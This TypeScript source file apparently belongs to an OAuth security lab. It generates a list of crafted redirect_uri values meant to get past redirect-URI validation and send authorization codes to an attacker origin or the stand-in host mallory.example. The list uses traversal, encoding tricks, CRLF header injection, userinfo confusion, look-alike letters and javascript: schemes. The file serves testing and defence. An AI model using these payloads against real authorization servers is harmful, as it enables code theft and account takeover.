import type { Origins } from '@/lib/oauth/environment'
import { type AttackedClient, COLLECTING_PAGE, callbackOf } from './lures'

/** One way to write an address that two programs may read differently. */
export interface RedirectPayload {
  /** A few words. */
  title: string
  /** What stands in the request, in this order; usually one `redirect_uri`. */
  parameters: readonly (readonly [name: string, value: string])[]
}

/** Another host, as an attacker would own one. Nothing ever answers there: a lab ends at its own parties. */
const STRANGER = 'mallory.example'
/** ASCII letters of which other alphabets have doubles. */
const DOUBLES: Readonly<Record<string, string>> = { a: 'а', e: 'е', o: 'о', p: 'р', c: 'с' }

/**
 * Addresses that got past servers before (RFC 9700, section 4.1; ACSAC 2023, "Redirect URI validation falls short,
 * literally"; advisories of several products), aimed at the callback of `client`.
 */
export function redirectPayloads(origins: Origins, client: AttackedClient): readonly RedirectPayload[] {
  const callback = callbackOf(origins, client)
  const { origin, protocol, host, hostname, port, pathname } = new URL(callback)
  const evil = `${origins.attacker}${COLLECTING_PAGE}`
  const evilHost = new URL(evil).host
  const evilPath = new URL(evil).pathname
  const behind = `${evilHost}${evilPath}`
  const one = (title: string, redirect_uri: string): RedirectPayload => ({
    title,
    parameters: [['redirect_uri', redirect_uri]],
  })
  return [
    one('Begins like a registered host', evil),
    one('The callback behind a ?', `${evil}?${callback}`),
    one('Dots that lead up', `${callback}/../../evil`),
    one('Dots in percent-encoding', `${callback}/%2e%2e/evil`),
    one('Slashes in percent-encoding', `${callback}%2F..%2Fevil`),
    one('Encoded twice', `${callback}/%252e%252e/evil`),
    one('A path parameter, then up', `${callback};/../evil`),
    one('Dots with a path parameter', `${callback}/..;/evil`),
    one('A line break for the header', `${callback}%0d%0aLocation:%20${evil}`),
    one('A real line break', `${callback}\r\nLocation: ${evil}`),
    one('The host as a user name', `${origin}@${behind}`),
    one('Two user names', `${protocol}//${hostname}@${hostname}@${behind}`),
    one('User name and password', `${protocol}//${hostname}:1@${behind}`),
    one('A longer host name', `${origin}.${STRANGER}${pathname}`),
    one('A longer host name, its dot encoded', `${origin}%2e${STRANGER}${pathname}`),
    one('A backslash before the @', `${origin}\\@${behind}`),
    one('Backslashes for slashes', `${protocol}\\\\${evilHost}${evilPath.replaceAll('/', '\\')}`),
    one('No scheme', `//${behind}`),
    one('A scheme without slashes', `${protocol}${behind}`),
    one('Three slashes', `${protocol}///${behind}`),
    one('Scheme and host in capitals', callback.replace(origin, origin.toUpperCase())),
    one('The path in capitals', callback.replace(pathname, pathname.toUpperCase())),
    one('Another port', callback.replace(host, `${hostname}:${Number(port || 80) + 1}`)),
    one('A port that is no number', callback.replace(host, `${hostname}:80a`)),
    one('A dot after the host', callback.replace(host, `${hostname}.${port && `:${port}`}`)),
    one('Letters of another alphabet', callback.replace(hostname, lookalike(hostname))),
    one('A fragment', `${callback}#`),
    one('A host in the fragment', `${callback}#@${behind}`),
    one('A code of Mallory’s in the query', `${callback}?code=mallorys-own-code`),
    one('A place to go on to', `${callback}?return_to=${encodeURIComponent(evil)}`),
    one('A slash at the end', `${callback}/`),
    one('A space at the end', `${callback} `),
    one('A null byte at the end', `${callback}%00.${STRANGER}`),
    one('localhost as a subdomain', `http://localhost.${STRANGER}${pathname}`),
    one('A loopback address as a subdomain', `http://127.0.0.1.${STRANGER}${pathname}`),
    one('A loopback address as user name', `http://127.0.0.1:1@${behind}`),
    one('The address as one number', `http://2130706433${evilPath}`),
    one('The address cut short', `http://127.1${evilPath}`),
    one('javascript:', `javascript:alert(1)//${callback}`),
    one('data:', `data:text/html,${callback}`),
    one('A tab inside the scheme', callback.replace('http', 'ht\ttp')),
    one('A line break inside the scheme', callback.replace('http', 'ht\ntp')),
    one('A private scheme, one slash', 'com.example.app:/callback'),
    one('A private scheme, two slashes', 'com.example.app://callback'),
    one('Nothing', ''),
    { title: 'Twice, Mallory’s last', parameters: twice(callback, evil) },
    { title: 'Twice, Mallory’s first', parameters: twice(evil, callback) },
    { title: 'As a list', parameters: [['redirect_uri[]', evil]] },
  ]
}

const twice = (first: string, second: string): [string, string][] => [
  ['redirect_uri', first],
  ['redirect_uri', second],
]

function lookalike(hostname: string): string {
  return hostname.replace(/[aeopc]/, (letter) => DOUBLES[letter] ?? letter)
}
